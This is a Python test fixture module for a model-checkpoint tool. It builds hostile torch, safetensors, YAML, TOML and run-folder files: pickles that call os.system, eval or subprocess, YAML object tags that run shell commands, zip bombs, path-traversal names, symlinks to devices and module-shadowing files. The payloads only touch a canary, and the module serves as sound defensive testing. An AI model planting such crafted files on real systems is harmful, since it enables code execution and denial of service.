"""Hostile files: each tries to run code, escape its folder, or exhaust memory and time.

A maker writes its file at a path. Executed code creates the canary file.
"""

import io
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

from whet.checkpoint import encoding
from whet.checkpoint.encoding import encode_tensors

Maker = Callable[[Path, Path], None]
"""Called with the path to write and the path of the canary."""


class Call:
    """Pickles as a call of any function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._reduced = function, arguments

    def __reduce__(self) -> Any:
        return self._reduced


def named_call(module: str, name: str, *arguments: Any) -> bytes:
    """A pickle that calls a function by its name, which need not be importable here."""
    body = b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"("
    for argument in arguments:
        text = str(argument).encode()
        body += b"X" + struct.pack("<I", len(text)) + text
    return body + b"tR."


def touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def zipped(pickled: bytes, **records: bytes) -> bytes:
    """A file as torch.save writes it, around any pickle."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
        for name, data in records.items():
            archive.writestr(name, data)
    return target.getvalue()


def legacy(pickled: bytes) -> bytes:
    """A file as torch.save wrote it before 1.6."""
    head = io.BytesIO()
    for part in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}):
        pickle.dump(part, head, protocol=2)
    return head.getvalue() + pickled


def executing(function: Callable[[Path], Any], pack: Callable[[bytes], bytes] = zipped) -> Maker:
    def make(path: Path, canary: Path) -> None:
        path.write_bytes(pack(pickle.dumps({"state_dict": {"w": function(canary)}}, protocol=2)))

    return make


def calling(module: str, name: str, *arguments: Callable[[Path], str], pack: Any = zipped) -> Maker:
    def make(path: Path, canary: Path) -> None:
        path.write_bytes(pack(named_call(module, name, *(argument(canary) for argument in arguments))))

    return make


def exactly(data: bytes) -> Maker:
    return lambda path, canary: path.write_bytes(data) and None


def system(canary: Path) -> Call:
    return Call(os.system, f"touch {canary}")


def evaluated(canary: Path) -> Call:
    return Call(eval, touch(canary))


# --- torch files -----------------------------------------------------------------------------------------------------


def _popen(canary: Path) -> Call:
    import subprocess

    return Call(subprocess.Popen, ["touch", str(canary)])


def _object_array(path: Path, canary: Path) -> None:
    with path.open("wb") as file:
        np.save(file, np.array([system(canary)], dtype=object), allow_pickle=True)


def _tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(system(canary))
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))


def _nested(path: Path, canary: Path) -> None:
    inner = zipped(pickle.dumps(evaluated(canary), protocol=2))
    path.write_bytes(zipped(pickle.dumps({"inner": inner}, protocol=2), **{"archive/inner.pt": inner}))


def _bomb(path: Path, canary: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", bytes(100 * 1024**2))


def _polyglot(path: Path, canary: Path) -> None:
    tensors = b"".join(encode_tensors({"w": torch.zeros(4)}))
    path.write_bytes(tensors + zipped(pickle.dumps(system(canary), protocol=2)))


def _storage(name: str, *, numel: int, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    """A pickle of one tensor whose storage, size and stride are what they should not be."""

    class Persistent(pickle.Pickler):
        def persistent_id(self, value: Any) -> Any:
            return ("storage", torch.FloatStorage, name, "cpu", numel) if value == "STORAGE" else None

    class Tensor:
        def __reduce__(self) -> Any:
            return torch._utils._rebuild_tensor_v2, ("STORAGE", offset, size, stride, False, {})

    target = io.BytesIO()
    Persistent(target, protocol=2).dump({"w": Tensor()})
    return target.getvalue()


def _laughs() -> bytes:
    """Nested dicts, each contained ten times in the next: small on disk, huge when traversed."""
    value: dict[str, Any] = {"w": 1}
    for _ in range(15):
        value = {str(number): value for number in range(10)}
    return zipped(pickle.dumps({"model": value}, protocol=2))


def _deep() -> bytes:
    return zipped(b"\x80\x02" + b"}X\x01\x00\x00\x00a" * 100_000 + b"N" + b"s" * 100_000 + b".")


def _sparse(path: Path, canary: Path) -> None:
    with path.open("wb") as file:
        file.write(b"PK\x03\x04")
        file.truncate(2**43)


FILES = {"archive/data/0": bytes(16)}

TORCH: dict[str, tuple[str, Maker]] = {
    "os.system in an archive": ("a.pt", executing(system)),
    "os.system in a raw pickle": ("a.pt", executing(system, bytes)),
    "os.system in a legacy file": ("a.pth", executing(system, legacy)),
    "subprocess": ("a.pt", executing(_popen)),
    "eval": ("a.bin", executing(evaluated)),
    "exec": ("a.pt", executing(lambda canary: Call(exec, touch(canary)))),
    "getattr": ("a.pt", executing(lambda canary: Call(getattr, Call(__import__, "os"), "system"))),
    "pkgutil.resolve_name": ("a.pt", calling("pkgutil", "resolve_name", lambda canary: "os:system")),
    "torch.hub.load": ("a.pt", calling("torch.hub", "load", lambda canary: "evil/evil", lambda canary: "evil")),
    "torch.load": ("a.pt", calling("torch.serialization", "load", lambda canary: str(canary))),
    "numpy.load": ("a.pt", calling("numpy", "load", lambda canary: str(canary))),
    "runpy": ("a.pt", calling("runpy", "run_path", lambda canary: str(canary))),
    "importlib": ("a.ckpt", calling("importlib", "import_module", lambda canary: "antigravity")),
    "a network call": ("a.pt", calling("urllib.request", "urlopen", lambda canary: "http://127.0.0.1:9/")),
    "a builtin in a legacy file": ("a.pt", calling("builtins", "eval", touch, pack=legacy)),
    "a numpy array of objects": ("a.pt", _object_array),
    "a tar of 2016": ("a.pt", _tar),
    "DCP's .metadata": ("a.bin", executing(system, bytes)),
    "rng_state.pth": ("rng_state.pth", executing(lambda canary: Call(eval, touch(canary)))),
    "training_args.bin": ("training_args.bin", calling("transformers.training_args", "TrainingArguments")),
    "optimizer.pt": ("optimizer.pt", executing(system, legacy)),
    "an archive in an archive": ("a.pt", _nested),
    "a zip bomb": ("a.pt", _bomb),
    "an archive of nothing": ("a.pt", exactly(b"PK\x05\x06" + bytes(18))),
    "a cut archive": ("a.pt", lambda path, canary: path.write_bytes(zipped(b"N.")[:-30]) and None),
    "a model as TorchScript": (
        "a.pt",
        exactly(zipped(b"N.", **{"archive/constants.pkl": b"N.", "archive/code/a.py": b"1"})),
    ),
    "a storage outside the archive": (
        "a.pt",
        exactly(zipped(_storage("../../../../etc/passwd", numel=4, size=(4,), stride=(1,)), **FILES)),
    ),
    "a tensor beyond its storage": (
        "a.pt",
        exactly(zipped(_storage("0", numel=4, size=(2**40,), stride=(1,)), **FILES)),
    ),
    "a tensor of 2^50 repeats": ("a.pt", exactly(zipped(_storage("0", numel=4, size=(2**50,), stride=(0,)), **FILES))),
    "a negative offset": (
        "a.pt",
        exactly(zipped(_storage("0", numel=4, size=(4,), stride=(1,), offset=-8), **FILES)),
    ),
    "a map held 10^15 times": ("a.pt", exactly(_laughs())),
    "maps 100,000 deep": ("a.pt", exactly(_deep())),
    "names that leave the archive": ("a.pt", exactly(zipped(b"}.", **{"../../evil": b"x"}))),
    "an endless memo": ("a.pt", exactly(zipped(b"\x80\x02" + b"(" * 200_000 + b"."))),
    "eight terabytes": ("a.pt", _sparse),
    "an empty file": ("a.pt", exactly(b"")),
    "a pipe": ("a.pt", lambda path, canary: os.mkfifo(path)),
    "a link to a device": ("a.pt", lambda path, canary: path.symlink_to("/dev/zero")),
}


# --- safetensors -----------------------------------------------------------------------------------------------------


def headed(header: bytes | dict[str, Any], *, numbers: int = 16, length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + bytes(numbers)


def entry(shape: list[int], offsets: list[int], dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": offsets}


def _many() -> bytes:
    one = ",".join(f'"{n}":{{"dtype":"F32","shape":[0],"data_offsets":[0,0]}}' for n in range(1_000_000))
    return headed(b"{" + one.encode() + b"}", numbers=0)


SAFE: dict[str, tuple[str, Maker]] = {
    "a header of 2^63 bytes": ("a.safetensors", exactly(headed({}, length=2**63))),
    "a million tensors": ("a.safetensors", lambda path, canary: path.write_bytes(_many()) and None),
    "shapes that overflow": ("a.safetensors", exactly(headed({"a": entry([2**32, 2**32, 4], [0, 16])}))),
    "offsets that overlap": ("a.safetensors", exactly(headed({"a": entry([4], [0, 16]), "b": entry([2], [8, 16])}))),
    "a name twice": (
        "a.safetensors",
        exactly(
            headed(
                b'{"a":'
                + json.dumps(entry([4], [0, 16])).encode()
                + b',"a":'
                + json.dumps(entry([4], [0, 16])).encode()
                + b"}"
            )
        ),
    ),
    "bytes of no tensor": ("a.safetensors", exactly(headed({"a": entry([2], [0, 8])}))),
    "an archive behind tensors": ("a.safetensors", _polyglot),
    "a pickle by another name": ("a.safetensors", executing(system, bytes)),
    "a header 100,000 deep": ("a.safetensors", exactly(headed(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"))),
    "a shape of 5,000 digits": (
        "a.safetensors",
        exactly(headed(b'{"a":{"dtype":"F32","shape":[' + b"9" * 5000 + b'],"data_offsets":[0,16]}}')),
    ),
    "NaN for an offset": (
        "a.safetensors",
        exactly(headed(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[NaN,16]}}')),
    ),
    "negative shapes": ("a.safetensors", exactly(headed({"a": entry([-2, -2], [0, 16])}))),
    "a dtype that is code": ("a.safetensors", exactly(headed({"a": entry([4], [0, 16], dtype="__import__('os')")}))),
}


# --- config and machine files ----------------------------------------------------------------------------------------

_ALIASES = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)

CONFIG: dict[str, tuple[str, Maker]] = {
    "YAML aliases": ("a.yaml", exactly(_ALIASES.encode())),
    "a Python object in YAML": (
        "a.yaml",
        lambda path, canary: path.write_text(f'lr: !!python/object/apply:os.system ["touch {canary}"]\n') and None,
    ),
    "a Python module in YAML": ("a.yml", exactly(b"lr: !!python/module:antigravity\n")),
    "YAML merge keys": ("a.yaml", exactly(b"a: &a {lr: 1}\n<<: *a\n")),
    "YAML 5,000 deep": ("a.yaml", exactly(b"lr: " + b"[" * 5000 + b"]" * 5000)),
    "TOML 5,000 deep": ("a.toml", exactly(b"lr = " + b"[" * 5000 + b"]" * 5000)),
    "TOML with 5,000 digits": ("a.toml", exactly(b"lr = " + b"9" * 5000)),
    "TOML with inf and dates": ("a.toml", exactly(b"lr = inf\nepochs = 1979-05-27\n")),
    "TOML with dotted keys 3,000 deep": ("a.toml", exactly(b".".join([b"a"] * 3000) + b" = 1")),
    "a config that is no text": ("a.yaml", exactly(b"\xff\xfe\x00")),
}

MACHINE: dict[str, tuple[str, Maker]] = {
    "a machine 100,000 deep": ("m.json", exactly(b'{"name":' + b"[" * 100_000 + b"]" * 100_000 + b"}")),
    "a machine of 5,000 digits": ("m.json", exactly(b'{"memory_bytes":' + b"9" * 5000 + b"}")),
    "a machine of NaN": ("m.json", exactly(b'{"memory_bytes": NaN, "name": Infinity}')),
}


# --- run folders -----------------------------------------------------------------------------------------------------

Change = Callable[[Path, Path], None]


def in_file(name: str, /, **changes: Any) -> Change:
    def change(run: Path, canary: Path) -> None:
        content = json.loads((run / name).read_text())
        for path, value in changes.items():
            place = content
            *above, last = path.split("__")
            for part in above:
                place = place[part]
            place[last] = value
        (run / name).write_text(json.dumps(content))

    return change


def replaced(name: str, data: bytes) -> Change:
    return lambda run, canary: (run / name).write_bytes(data) and None


def pickled(name: str) -> Change:
    return lambda run, canary: (run / name).write_bytes(pickle.dumps(system(canary))) and None


def linked(name: str, target: str) -> Change:
    def change(run: Path, canary: Path) -> None:
        path = run / name
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        path.symlink_to(target.replace("VICTIM", str(canary.parent / "victim")))

    return change


def piped(name: str) -> Change:
    def change(run: Path, canary: Path) -> None:
        (run / name).unlink(missing_ok=True)
        os.mkfifo(run / name)

    return change


def newest(run: Path) -> Path:
    return sorted((run / "checkpoints").glob("step-*"))[-1]


def in_checkpoint(change: Callable[[Path, Path], None]) -> Change:
    return lambda run, canary: change(newest(run), canary)


def _evil_manifest(folder: Path, canary: Path) -> None:
    content = json.loads((folder / "manifest.json").read_text())
    content.pop("sha256")
    content["files"]["../../../escape.json"] = {"size": 1, "sha256": "0" * 64}
    import hashlib

    digest = hashlib.sha256(encoding.dump_json(content)).hexdigest()
    (folder / "manifest.json").write_bytes(encoding.dump_json({**content, "sha256": digest}))


def _sparse_run_file(run: Path, canary: Path) -> None:
    with (run / "run.json").open("r+b") as file:
        file.truncate(2**40)


def _sparse_events(run: Path, canary: Path) -> None:
    with (run / "events.jsonl").open("r+b") as file:
        file.truncate(2**36)


def _crafted_index(run: Path, canary: Path) -> None:
    import zlib

    size = (run / "events.jsonl").stat().st_size
    first = json.loads((run / "events.jsonl").read_text().splitlines()[0])
    body = json.dumps(
        {
            "bytes": [0, size],
            "times": [first["time"], "now"],
            "steps": [first["step"], None, "many"],
            "damaged": {},
            "resumed_from": "x",
            "kinds": ["step"],
            "stats": {"loss": [1, 2, 3, 4, 5]},
        }
    ).encode()
    (run / "events.index").write_bytes(b"whet events index 1\n" + b"%08x %s\n" % (zlib.crc32(body), body))


def _modules(run: Path, canary: Path) -> None:
    """Files that Python would import in place of its own modules."""
    for name in ("json", "torch", "yaml", "typer", "whet", "sitecustomize", "numpy"):
        (run / f"{name}.py").write_text(touch(canary))


RUNS: dict[str, Change] = {
    "a recipe that is code": in_file("run.json", recipe="evil.py:recipe"),
    "a recipe that is a function": in_file("run.json", recipe="os:abort"),
    "a command that is another": in_file("run.json", command=["sh", "-c", "touch canary"]),
    "a run 100,000 deep": replaced("run.json", b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "a format of 5,000 digits": replaced("run.json", b'{"format_version":' + b"9" * 5000 + b"}"),
    "a run of NaN": replaced("run.json", b'{"format_version": NaN}'),
    "a run of a terabyte": _sparse_run_file,
    "run.json is a pipe": piped("run.json"),
    "run.json is a device": linked("run.json", "/dev/zero"),
    "run.json is a pickle": pickled("run.json"),
    "a config that names paths": in_file("config.json", init_from="/etc", data="/dev/zero"),
    "a config with code": in_file("config.json", model="!!python/object/apply:os.system [touch canary]"),
    "a plan of a million threads": in_file("plan.json", settings__threads__value=10**6, settings__workers__value=10**6),
    "a plan of other kinds": in_file(
        "plan.json", settings__micro_batch__value="os.system", settings__keep_checkpoints__value=-1
    ),
    "a plan without settings": in_file("plan.json", settings={}),
    "a plan for no device": in_file("plan.json", settings__device__value="evil:0"),
    "a plan of endless memory": in_file("plan.json", workload__num_parameters=10**30),
    "a machine that lies": in_file("machine.json", memory_bytes="all", name=["x"] * 1000),
    "versions that are code": in_file("versions.json", torch="__import__('os')"),
    "recipe.json is a pickle": pickled("recipe.json"),
    "recipe.json with code": replaced("recipe.json", b'{"tokenizer": "evil/model", "trust_remote_code": true}'),
    "an event 100,000 deep": replaced("events.jsonl", b'{"kind":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"),
    "events of other kinds": replaced(
        "events.jsonl", b'{"kind":"step","time":1,"step":1,"loss":{"a":[1]},"seconds":"x","lr":[]}\n' * 50
    ),
    "very many small events": replaced("events.jsonl", b'{"kind":"step","time":1,"step":1}\n' * 50_000),
    "events of 64 GB without a line": _sparse_events,
    "events of huge steps": replaced(
        "events.jsonl", b'{"kind":"step","time":1e308,"step":' + b"9" * 300 + b',"loss":1}\n'
    ),
    "events are a pipe": piped("events.jsonl"),
    "events are a link outside": linked("events.jsonl", "VICTIM/file"),
    "an index that lies": _crafted_index,
    "the lock is a link outside": linked("lock", "VICTIM/file"),
    "the lock is a pipe": piped("lock"),
    "a pickle for tensors": in_checkpoint(pickled("state.safetensors")),
    "a pickle beside the tensors": in_checkpoint(pickled("training_args.bin")),
    "DCP's metadata in the checkpoint": in_checkpoint(pickled(".metadata")),
    "tensors are a link": in_checkpoint(linked("state.safetensors", "/dev/zero")),
    "the manifest is a pipe": in_checkpoint(piped("manifest.json")),
    "a manifest that names a file above": in_checkpoint(_evil_manifest),
    "all checkpoints are a link": linked("checkpoints", "/proc/self"),
    "modules beside the run": _modules,
}
